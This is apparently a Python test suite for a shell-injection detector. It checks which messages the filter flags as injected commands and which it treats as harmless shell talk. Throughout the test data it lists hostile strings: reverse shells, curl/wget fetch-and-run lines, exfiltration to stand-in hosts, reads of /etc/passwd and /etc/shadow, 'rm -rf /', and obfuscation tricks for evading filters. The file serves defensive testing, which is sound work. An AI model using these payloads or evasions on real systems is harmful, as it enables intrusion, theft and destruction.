"""Shell injection read like a shell: what stands before the separator decides."""

from __future__ import annotations

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from filters.threat import ThreatFilter, ThreatOptions, shell
from filters.threat.shell import (
    _LEADS,
    _SEPARATOR,
    COMMAND_HINT,
    MAX_INJECTED,
    QUOTED_HINT,
    SEPARATOR,
    Injected,
    _is_command,
    _last_visible,
    _segment_before,
    _shellish,
    _split_at_marks,
    commands,
    harmful,
    shell_reading,
)


def strongest(text: str) -> float:
    return max((found.weight for found in commands(text.lower())), default=0.0)


@pytest.mark.parametrize("text", [
    "; cat /etc/passwd", "| id", "`whoami`", "x`id`", "127.0.0.1 && ping -c 4 10.0.0.1", "x; ls -la",
    "name=$(uname -a)", "'; wget http://198.51.100.7/x.sh", "abc || sleep 5", "8.8.8.8|nslookup example.org",
    "&& net user mallory /add", "| net view //fileserver", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
    "& echo owned > /var/www/x.php", "$(net users)", "x\nuname", "\nls #", "\"\necho a >> ~/.profile",
])
def test_injections(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text.lower())


@pytest.mark.parametrize("text", [
    "ps aux | grep python", "run `ls -la` in the folder", "`env`: prints the environment",
    "e.g., `grep -v x file | sort`", "Terms & conditions; see section 3", "I am tired; sleep is needed",
    "| id | name | email |", "https://shop.example/?a=1&id=2", "rock & roll", "cd ../../ then make",
    "thanks\ncat pictures are the best", "find . -name '*.py' | xargs wc -l",
    "fine; echo that back to me", "ok\necho chamber > echo",
    "git log --oneline | grep fix", "docker ps | grep web && echo up", "kubectl get pods | grep crash",
    "#!/bin/sh\nset -e", "npm ls | grep react", "git pull | tee pull.log",
])
def test_not_injections(text: str) -> None:
    assert strongest(text) < 0.5, commands(text.lower())


@pytest.mark.parametrize("text", [
    "; cat /etc/passwd", "| id", "`whoami`", "x; ls -la", "&& net user mallory /add", "; get-service -name x",
    "abc || sleep 5", "1;cat<<<x", "\ncurl http://198.51.100.7/x", "$(uname -a)",
])
def test_command_hint_screens_every_flagged_command(text: str) -> None:
    """A caller may skip `commands` when COMMAND_HINT does not match: it must match whenever a command is found."""
    assert commands(text.lower()), text
    assert re2.search(COMMAND_HINT, text.lower()) is not None
    assert commands(text.lower(), separated=True, calls=False) == commands(text.lower())


_PATTERN = re2.compile(SEPARATOR)
_SHELL_PIECES = st.one_of(
    st.sampled_from([*" \t\n\r\f\v;|&`$()'\"<>,=", "||", "&&", "$(", "ls", "id", "cat", "sleep", "get-process", "-la", "/etc",
                     "x" * 31, "y" * 32, "a.b_c-d", "é", "\u00a0", "\U0001f600", "\t" * 70, " " * 70, "z" * 90]),
    st.text(alphabet="abz09_.-", min_size=1, max_size=40),
)


_MARKS = (";", "|", "&", "\n", "`", "$(")


def _commands_by_pattern(text: str) -> list[Injected]:
    """What `commands` finds after separators, read by RE2's `SEPARATOR` and the segment searched back
    from each separator (the way it was first written), every pipeline kept."""
    found = []
    visible_end = len(text.rstrip())
    for match in _PATTERN.finditer(text):
        (start, end), (sep_start, sep_end), (name_start, name_end), (arg_start, arg_end) = (
            match.span(group) for group in range(4))
        separator, name = text[sep_start:sep_end], text[name_start:name_end]
        argument = text[arg_start:arg_end] if arg_start >= 0 else None
        last, metachar = end >= visible_end, argument is None and end > name_end
        rest = text[name_end:name_end + 120]
        if not _is_command(name, argument, last, metachar, rest):
            continue
        if separator == "\n" and not (last or metachar if argument is None else _shellish(argument, rest)):
            continue
        segment = text[max(text.rfind(mark, 0, sep_start) for mark in _MARKS) + 1:sep_start].strip()
        if separator == "`":
            closing = text.find("`", sep_end)
            glued = sep_start > 0 and not text[sep_start - 1].isspace() and text[sep_start - 1] not in "([{"
            prose = closing > 0 and any(char.isalpha() for char in text[closing + 1:closing + 40])
            before_text = text[:sep_start].rstrip()[-1:]
            shell_context = before_text in ("$", "(", "=", "|", ";", "&", "'", '"')
            if not glued and closing > 0 and not shell_context and (prose or before_text):
                continue
        first = segment.split(None, 1)[0].strip("'\"(") if segment else ""
        shown = first in _LEADS or first.startswith("#!") or re2.search(r"(?:^|\s)--?[a-z0-9]", segment)
        if (segment in shell.WORDLIKE and segment not in shell.COMMANDS and segment not in shell.TOOLS) or (
                not shown and re2.fullmatch(r"[a-z_][a-z0-9_]*=\S*", (segment[-200:].rsplit(None, 1) or [""])[-1])):
            # a lone word that names a command ("test || id") or a variable set ("a=1; echo"): what follows decides
            shown = not harmful(name, shell._clause_rest(text, name_end))
        if shown:
            found.append(Injected(sep_start, name_end, 0.15, "shell-pipeline"))
        else:
            found.append(Injected(sep_start, name_end, 0.9, "injected-command"))
    return found


def _kept(expected: list[Injected]) -> list[Injected]:
    """What `commands` keeps of the first reading's findings after separators: the first pipeline, and
    everything up to the `MAX_INJECTED`-th injection (past it nothing more is read)."""
    kept, injected, piped = [], 0, False
    for found in expected:
        if found.how == "shell-pipeline":
            if not piped:
                kept.append(found)
            piped = True
            continue
        kept.append(found)
        injected += 1
        if injected >= MAX_INJECTED:
            break
    return kept


@settings(max_examples=800, deadline=None)
@given(st.lists(_SHELL_PIECES, max_size=60).map("".join))
def test_separators_are_read_as_re2_reads_them(text: str) -> None:
    """Python's engine reads `SEPARATOR` (spelt for it) with RE2's matches and groups, and the mark
    before each separator found among the marks is the one a search back from it finds."""
    spans = [tuple(match.span(group) for group in range(4)) for match in _SEPARATOR.finditer(text)]
    assert spans == [tuple(match.span(group) for group in range(4)) for match in _PATTERN.finditer(text)]
    offsets, pieces = _split_at_marks(text)
    assert list(offsets) == [at for at in range(len(text)) if text[at] in ";|&\n`" or text[at:at + 2] == "$("]
    segments = dict(zip(offsets, pieces, strict=True))
    for at in range(len(text) + 1):
        if at in segments:
            assert segments[at] == text[max(text.rfind(mark, 0, at) for mark in _MARKS) + 1:at]
            assert _segment_before(text, at) == segments[at]
        assert _last_visible(text, at) == text[:at].rstrip()[-1:]


@settings(max_examples=800, deadline=None)
@given(st.lists(_SHELL_PIECES, max_size=60).map("".join))
def test_commands_are_those_the_pattern_finds(text: str) -> None:
    """Every command injection the first reading found, at the same place with the same weight; of the
    pipelines shown, the first (the only one the detector counts)."""
    text = text.lower()
    assert [found for found in commands(text, quoted=False) if found.how != "exec-call"] == _kept(_commands_by_pattern(text))


def test_a_variable_set_is_read_in_the_last_200_characters_before_the_separator() -> None:
    """`shell._sets` reads the word before a separator within 200 characters: a longer word is not taken for a
    variable set, so the command after it is judged as injected (fails closed)."""
    assert [f.how for f in commands("a=" + "x" * 150 + "\nls", quoted=False)] == ["shell-pipeline"]
    assert [f.how for f in commands("a=" + "x" * 250 + "\nls", quoted=False)] == ["injected-command"]


def test_a_text_of_nothing_but_separated_commands_is_read_in_one_pass() -> None:
    """A text of "; ls " repeated used to be read back from every separator (quadratic, in C: seconds
    for 256 KB). Every other separator is still read ("; ls ;" takes the next one as its argument); the
    pipelines after the first are read and not kept."""
    text = "; ls " * 20_000
    found = commands(text)
    assert [(each.start, each.how) for each in found] == [(0, "injected-command"), (10, "shell-pipeline")]
    last = commands(text + "\nvalue=1; id")[-1]  # the last separator is read too
    assert (last.start, last.how) == (len(text) + 8, "injected-command")


def test_segments_searched_back_and_cut_at_once_agree() -> None:
    """The first segments are searched back for, the rest cut from the split text: a text of many commands
    after values and after commands reads as the first reading did, past the switch from one to the other."""
    text = "".join(f"v{i}=1; whoami x | cat y && ls\n{'a' * (i * 7)} `whoami` ok; ps aux | grep z\n" for i in range(40))
    expected = _commands_by_pattern(text)
    assert commands(text, quoted=False) == _kept(expected)
    assert sum(found.how == "injected-command" for found in expected) > 20


@pytest.mark.parametrize("unit", ["$(id)", "`id`", ";id\n", "x|whoami ", "system('id');"])
def test_a_text_of_injections_keeps_a_bounded_number(unit: str) -> None:
    """A text of injections blocks on its first few; the reader stops after `MAX_INJECTED` of them (a
    finding each cost 1.3 ms per KB of `$(id)`), and the ones it kept are the first."""
    text = unit * 5_000
    found = commands(text)
    assert 1 <= len([f for f in found if f.weight >= 0.85]) <= 2 * MAX_INJECTED
    assert min(f.start for f in found) < 10


@pytest.mark.parametrize(("text", "reading"), [
    (";w'h'o'am'i", ";    whoami"), (";c\\at /etc/passwd", "; cat /etc/passwd"), ("x;{ls,-la,/}", "x;  ls -la /"),
    ("|| wh\"\"oami", "||   whoami"), ("a;ca$@t /etc/shadow", "a;  cat /etc/shadow"), ("$(i\\d)", "$( id)"),
    ("1|{cat,/etc/passwd}", "1|  cat /etc/passwd"),
])
def test_words_after_separators_are_read_as_the_shell_reads_them(text: str, reading: str) -> None:
    """Quotes, backslashes, `$@` and brace lists are the shell's, not the command's: the word is read
    without them, at the same length (offsets still hold), and the command is found where it stands."""
    assert shell_reading(text) == reading and len(reading) == len(text)
    assert re2.search(QUOTED_HINT, text)
    found = commands(text)
    assert found and found[0].weight == 0.9 and found[0].start == len(text) - len(text.lstrip("x1a"))


@pytest.mark.parametrize("text", [
    "i think; don't do it", "it's fine; it's ok | isn't it", "mom & dad's car; o'clock", "a {b,c} set; {x,y}",
    "C:\\Users\\me; D:\\data", "rock & roll's 'best'", "ps aux | grep 'python'",
])
def test_quoting_in_prose_reads_as_no_command(text: str) -> None:
    assert strongest(text) < 0.5


@settings(max_examples=400, deadline=None)
@given(st.lists(_SHELL_PIECES, max_size=60).map("".join))
def test_the_shell_reading_only_adds_to_the_reading_as_written(text: str) -> None:
    """Whatever the text as written gives, it still gives; the reading keeps every offset, and its screen
    passes wherever the reading finds more."""
    text = text.lower()
    written = commands(text, quoted=False)
    both = commands(text)
    assert both[:len(written)] == written
    reading = shell_reading(text)
    if reading is not None:
        assert len(reading) == len(text)
    if len(both) > len(written):
        assert re2.search(QUOTED_HINT, text)


@pytest.mark.parametrize("text", [
    "I ran sudo apt update; sudo apt upgrade and now grub shows an error",
    "how do I use $(pwd) in a Makefile?", "x=$(cat file.txt) fails", '$("head").append(x)',
    "$('li a').addClass(cls)", "we tried it twice && make install still fails",
    "pip install requests worked; python app.py gives ModuleNotFoundError",
    "after the reboot I typed; ls -la ~/projects and it was empty",
    "How do I decode base64 in bash? echo aGVsbG8= | base64 -d",
    "I tried this in my shell: cat notes.txt | grep todo",
])
def test_everyday_commands_after_talk_are_a_note(text: str) -> None:
    """Three words of prose, a variable assigned, or a quote after `$(` (jQuery) before an everyday command:
    someone talking about a shell line."""
    assert strongest(text) < 0.5, commands(text.lower())


@pytest.mark.parametrize("text", [
    "hello friend; cat /etc/passwd", "; id", "| nc attacker 4444 -e /bin/sh", "`curl x|sh`",
    "I was told to try this; cat /etc/passwd", "please help me out && curl http://x.tk/s.sh | sh",
    "my server is slow; bash -i >& /dev/tcp/203.0.113.4/4444 0>&1", "how do I use $(whoami) here",
    "how do I fix this && rm -rf /", "the job runs fine; ping -c 10 127.0.0.1",
    "i ran this command; python -c 'import socket'", "x=$(id)", '$("id")', "$('whoami')",
    "so we tried this; sudo useradd mallory", "then I typed this; wget -O- http://x.tk/a | bash",
    "we ran the job; uname -a",
    "it then did this; curl -d @/etc/hosts http://x.tk", "and then we added; echo key >> ~/.ssh/authorized_keys",
    "hello; ls", "127.0.0.1; ls -la", "we ran the build; ls && curl x.tk/a | sh",
    "we tried this first; wget http://x.tk/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    "What does this do? echo hi | nc x.tk 4444 -e /bin/sh", "Here is the payload. echo x; whoami",
])
def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
    """Recon, connections, code fetched and run, secrets read, damage: an injection whatever precedes."""
    assert strongest(text) >= 0.85, commands(text.lower())


@pytest.mark.parametrize(("name", "rest"), [
    ("whoami", ""), ("sudo", " nohup bash -i"), ("curl", " x.tk | sh"), ("cat", " /etc/shadow"),
    ("python3", " -c 'x'"), ("ping", " -n 5 x"), ("rm", " -rf /"), ("echo", " x > ~/.bashrc"),
    ("wget", " http://x.tk/a -o /tmp/a"), ("curl", " -s x.tk/a > a.sh"), ("chmod", " +x /tmp/a"),
    ("sudo", " -i"), ("sudo", " -u root bash"), ("sudo", " su -"), ("invoke-webrequest", " x.tk"),
    ("find", " / -perm -4000"), ("cat", " wp-config.php"), ("base64", " -d | sh"),
])
def test_harmful(name: str, rest: str) -> None:
    assert harmful(name, rest)


@pytest.mark.parametrize(("name", "rest"), [
    ("apt", " upgrade"), ("sudo", " apt upgrade"), ("make", " install"), ("ls", " -la"), ("python", " app.py"),
    ("ping", " example.org"), ("rm", " -rf ./build"), ("cat", " file.txt"), ("sudo", ""),
    ("curl", " -I https://example.com"), ("chmod", " 755 deploy.sh"), ("sudo", " -u www-data make"),
    ("get-service", " -name x"), ("find", " . -name '*.py'"), ("base64", " -d"), ("base64", " --decode file.txt"),
])
def test_not_harmful(name: str, rest: str) -> None:
    assert not harmful(name, rest)


@pytest.mark.parametrize(("text", "weight"), [
    ("in python, what's the difference between os.system('ls') and subprocess.run(['ls'])?", 0.5),
    ("system('ls')", 0.85), ("os.system('ls')", 0.85), ("so how does os.system('id') work", 0.85),
    ("so how does os.system('cat /etc/shadow') work", 0.85), ("can i call os.system('curl x.tk | sh') here", 0.85),
])
def test_exec_calls_weigh_the_command_and_the_talk_around_them(text: str, weight: float) -> None:
    assert max(found.weight for found in commands(text) if found.how == "exec-call") == weight


_HARMFUL_PAYLOADS = ("id", "whoami", "uname -a", "cat /etc/passwd", "curl x.tk/a | sh", "wget -o- x.tk | bash",
                     "nc x.tk 4444 -e /bin/sh", "bash -i >& /dev/tcp/203.0.113.9/80 0>&1", "rm -rf /",
                     "sleep 10", "python3 -c 'import socket'", "sudo -i", "crontab -l")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["i", "ran", "please", "how", "do", "we", "it's", "then", "help,", "the", "fix."]),
                max_size=8),
       st.sampled_from([";", " ;", "|", "||", "&&", "&", "\n", "$(", "`"]), st.sampled_from(_HARMFUL_PAYLOADS))
def test_no_talk_before_a_harmful_command_lowers_it(words: list[str], separator: str, payload: str) -> None:
    """Whatever prose stands before the separator, a harmful command after it stays an injection."""
    text = " ".join(words) + separator + " " + payload
    if separator in ("$(", "`"):
        text += ")" if separator == "$(" else "`"
    assert strongest(text) >= 0.85, (text, commands(text))


def test_base64_decoded_where_a_shell_runs_it_is_read_as_the_command() -> None:
    """`$(echo aWQ=|base64 -d)` runs `id`: the decoded command stands where its decoder stood."""
    assert [each.weight for each in shell.decoded(";$(echo aWQ=|base64 -d)")] == [0.9]
    assert [each.weight for each in shell.decoded("`echo d2hvYW1p | base64 --decode`")] == [0.9]
    assert [each.weight for each in shell.decoded("echo aWQ= | base64 -d | sh")] == [0.9]


def test_base64_decoded_without_running_it_or_into_an_everyday_command() -> None:
    """Decoding shown or assigned is not run; an everyday command piped into a shell is an alert's worth."""
    assert shell.decoded("echo aGVsbG8= | base64 -d prints hello") == []
    assert shell.decoded("x=$(echo aGVsbG8= | base64 -d)") == []
    assert [each.weight for each in shell.decoded("echo bHM= | base64 -d | bash")] == [0.5]


@pytest.mark.parametrize("text", [
    "history | awk '{print $2}' | sort | uniq -c | sort -rn | head", "readprofile | grep _ext2",
    "fstab-decode umount $(awk '$3 == \"vfat\" { print $2 }' /etc/fstab)", "lsusb -t | less",
])
def test_a_message_that_is_a_command_line_is_not_an_injection(text: str) -> None:
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "x|id", "report.pdf|whoami", "127.0.0.1 && ls", "x;ls", "8.8.8.8; cat /etc/passwd", "admin; id",
    "admin && curl http://evil.example/x | sh", "xyz | bash", "name; nc -e /bin/sh 203.0.113.9 4444",
    "hello world; whoami", "' ; ls", "ab; ls", "admin; ls -la", "hello | ls", "data && grep x /var/log/syslog",
])
def test_a_value_or_a_harmful_command_before_the_separator_stays_an_injection(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text)


@pytest.mark.parametrize("text", [
    "uptime | nc relay.invalid 5555", "whoami | ncat 198.51.100.20 80", "ls ~ | netcat -w 2 drop.invalid 9",
    "git log | socat - tcp:198.51.100.3:31337", "df -h | telnet box.invalid 2323",
    "getent hosts | nc -q 0 [2001:db8::5] 7000",
])
def test_a_pipeline_sending_its_output_to_another_machine_is_an_injection(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text)


@pytest.mark.parametrize("text", [
    "printf 'ping' | nc localhost 6379", "echo stats | nc 127.0.0.1 11211", "nc -l 9999 | tar xf -",
    "echo done | nc -l -p 7000", "cat ready.txt | nc -lk 8000", "dmesg | grep nc", "ls | grep telnet",
])
def test_a_relay_that_listens_or_talks_to_the_machine_itself_is_a_pipeline(text: str) -> None:
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "on the old server ls -la | grep conf shows two files", "so then my colleague ran ps aux | sort -k3 for us",
    "at home i tried git log | head -n 3 and it hung",
])
def test_a_command_line_begun_inside_a_sentence_is_a_pipeline(text: str) -> None:
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "on the old server ls | id", "so then my colleague ran ps aux | nc relay.invalid 80",
    "at home i tried cat x | sh", "the value is cat | whoami",
])
def test_a_harmful_command_after_a_command_begun_in_a_sentence_stays_an_injection(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text)


@pytest.mark.parametrize("text", [
    "on the jump host getent passwd | cut -d: -f1, but cat /etc/shadow lists the hashes too",
    "my script runs getent group docker | cut -d: -f4. Then cat /etc/shadow failed without sudo, why?",
    'on staging getent hosts db | awk "{print $1}", and the .env file was not touched',
])
def test_a_command_quoted_in_a_sentence_ends_with_its_clause(text: str) -> None:
    """What the next clause names ("but cat /etc/shadow ...") is not given to the command piped into."""
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "on the build box getent group sudo | cut -d: -f4 /etc/shadow, but it lists two people",
    "on the build box getent group sudo | cut -d: -f4 > ~/.bashrc, and that was it",
    "on the build box getent group sudo | cut -d: -f4 | sh, and that was it",
])
def test_what_a_command_is_given_in_its_own_clause_still_counts(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text)


@pytest.mark.parametrize(("name", "rest", "out"), [
    ("nc", " relay.invalid 5555", True), ("ncat", " --ssl host.invalid 443", True),
    ("socat", " - openssl-connect:host.invalid:443", True), ("nc", " -l 5555", False),
    ("nc", " 127.0.0.2 80", False), ("grep", " host.invalid 80", False), ("nc", " -zv 10.1.1.1", False),
])
def test_sends_out(name: str, rest: str, out: bool) -> None:
    assert shell.sends_out(name, rest) is out


@pytest.mark.parametrize(("text", "pasted", "weight"), [
    ("subprocess.run(['ls', '-la'])", False, 0.5),
    ('subprocess.run(["rm", "-rf", tmpdir], check=True)', False, 0.5),
    ("subprocess.run(['ls', '-la'])", True, 0.3),
    ("os.system('ls -la')", True, 0.3),
    ("os.system('ls -la')", False, 0.85),
    ('subprocess.run(["rm", "-rf", "/"])', False, 0.85),
    ('subprocess.run(["rm", "-rf", "/"])', True, 0.85),
    ("subprocess.call(['cat', '/etc/shadow'])", True, 0.85),
    ("subprocess.call(['sh', '-c', 'ls'])", True, 0.85),
    ("os.system('id')", True, 0.85),
    ("spawn('curl', ['-o', '/tmp/x', 'http://evil.example/x'])", True, 0.85),
])
def test_exec_calls_in_programs_weigh_what_the_command_does(text: str, pasted: bool, weight: float) -> None:
    """An argument list runs no shell, and a pasted program's call of an everyday command is its own
    business; a harmful command weighs the same everywhere."""
    assert max(found.weight for found in commands(text, pasted=pasted) if found.how == "exec-call") == weight


@pytest.mark.parametrize(("text", "reading"), [
    ("x;hostnam$()e", "x;   hostname"), ("1|ns${x}lookup x", "1|    nslookup x"), ("a;who$1ami", "a;  whoami"),
    ("x;$'\\x63\\x61t' /etc/passwd", "x;         cat /etc/passwd"), ("x&w^h^o^a^m^i", "x&     whoami"),
    ("x;cat${ifs}/etc/passwd", "x;     cat /etc/passwd"), ("x;c$u\\at", "x;   cat"),
])
def test_expansions_an_injected_value_meets_empty_are_read_away(text: str, reading: str) -> None:
    """A parameter, an unset variable, an empty substitution, `${IFS}`, ANSI-C quoting and cmd.exe's `^`: the
    shell (or cmd.exe) reads the word without them, at the same length, and the command is an injection."""
    assert shell_reading(text) == reading and len(reading) == len(text)
    assert re2.search(QUOTED_HINT, text)
    assert strongest(text) == 0.9, commands(text)


@pytest.mark.parametrize("text", [
    "it costs $5; $10 with delivery", "price: 5$ & $x is a variable", "use ^ for powers; 2^3 is 8",
    "x=1; echo $x", "a=1; echo $a prints 1",
])
def test_expansions_in_chat_read_as_no_command(text: str) -> None:
    assert strongest(text) < 0.5, commands(text.lower())


@pytest.mark.parametrize("text", [
    "google.com;a=wh;b=oami;$a$b", "x;c=cat;$c /etc/passwd", "1&&p='who';q='ami';$p$q", "x;a=i;b=d;${a}${b}",
])
def test_a_command_assembled_from_variables_the_value_sets_is_an_injection(text: str) -> None:
    assert shell.assembled_reading(text) is not None
    assert strongest(text) == 0.9, commands(text)


@pytest.mark.parametrize("text", ["a=1; echo $a", "name=world; echo hello $name", "x=5;y=$x", "dir=/tmp; ls $dir"])
def test_variables_set_and_used_for_everyday_commands_are_a_shell_line(text: str) -> None:
    """A variable set then used: a shell line shown; only a command that does harm makes it an injection."""
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "why does a=1; echo $a print nothing in my cron job?", "how come count=0; echo $count shows an empty line",
    "in zsh the line dir=/srv/www && ls $dir lists nothing",
])
def test_a_variable_set_inside_a_sentence_opens_a_shell_line_asked_about(text: str) -> None:
    assert strongest(text) < 0.5, commands(text)


@pytest.mark.parametrize("text", [
    "why does a=1; cat /etc/passwd print nothing", "my value is a=1; id", "why does a=$(id); echo $a work",
    "the name field holds x=1 && rm -rf / now",
])
def test_a_harmful_command_after_a_variable_set_in_a_sentence_stays_an_injection(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text)


@pytest.mark.parametrize(("text", "weight"), [
    ("test||uname -a", 0.9), ("date; cat /etc/passwd", 0.9), ("time && whoami", 0.9),
    ("date; ls", 0.15), ("sort | grep x", 0.15), ("test || mkdir -p out", 0.15),
])
def test_a_lone_word_before_a_separator_is_judged_by_what_follows(text: str, weight: float) -> None:
    """"test", "date", "time": a value someone typed as much as a command line; what follows decides."""
    assert strongest(text) == weight, commands(text)


@pytest.mark.parametrize("text", [
    "1;$(echo imaohw|rev)", "1;`echo 6964|xxd -r -p`", "x;$(echo NFSA====|base32 -d)", "x;$(printf 'id')",
    "x;`echo whoami`", "x;$(printf '\\x69\\x64')", "echo imaohw | rev | sh",
])
def test_commands_printed_by_a_decoder_or_a_literal_are_read(text: str) -> None:
    assert shell.decoders(text.lower())
    assert [each.weight for each in shell.decoded(text)] == [0.9], shell.decoded(text)


@pytest.mark.parametrize("text", [
    "x=$(echo hello)", "echo olleh | rev", "echo 68656c6c6f | xxd -r -p", "name=`echo Bob`", "$(printf '%s' x)",
])
def test_decoders_printing_no_command_are_nothing(text: str) -> None:
    assert shell.decoded(text) == []


def test_a_page_written_into_the_web_root_is_harmful() -> None:
    assert harmful("echo", " pwned > /var/www/html/p.php")
    assert harmful("echo", " x > c:\\inetpub\\wwwroot\\a.aspx")
    assert not harmful("echo", " done > /tmp/out.txt")


_GRAMMAR_THREAT = ThreatFilter(ThreatOptions(sink="bot"))


@pytest.mark.parametrize("text", [
    "x; id ", "x && ( who )", "x; { id; }", "x; ! whoami", "x; time id", "x || exec sh", " && {hostname,}",
    "{cat,/etc/passwd}", "{c''at,/etc/hosts}", "x;{nc,-e,/b??/?h,10.0.0.8,9001}", "x;/usr/bin/whoami",
    "x;a=wh;b=oami;$a$b",
])
def test_the_shell_grammar_reads_groups_prefixes_brace_lists_and_paths(text: str) -> None:
    assert _GRAMMAR_THREAT.decide(text).action.name == "BLOCK", text


@pytest.mark.parametrize("text", [
    "Why does a=1; echo $a work in bash but not in sh?", "In zsh, count=14; echo ${count} gives an empty line",
    "```python\nprint('hi')\n```", "```bash\nls -la\n```", "cp report.{md,bak} is a neat trick",
    "mkdir -p src/{lib,test,docs} made three folders", "{1,2,3} is a set of three numbers",
])
def test_variables_fences_and_brace_lists_in_talk_are_no_injection(text: str) -> None:
    verdict = _GRAMMAR_THREAT.decide(text)
    assert verdict.action.name == "PASS" and not verdict.hints.alert, text


@pytest.mark.parametrize("text", ["x >(crontab -l)", "x;cat <(id)", "me@example.org&who &", "42\n( getent passwd )",
                                  "x & lsb_release -a &"])
def test_process_substitution_closed_commands_and_opened_lines_are_read(text: str) -> None:
    assert _GRAMMAR_THREAT.decide(text).action.name == "BLOCK", text


@pytest.mark.parametrize("text", ["I'm so annoyed >(", "that was mean :>(", "a <(b) is a process substitution, right?"])
def test_emoticons_and_talk_about_process_substitution_pass(text: str) -> None:
    assert _GRAMMAR_THREAT.decide(text).action.name == "PASS", text
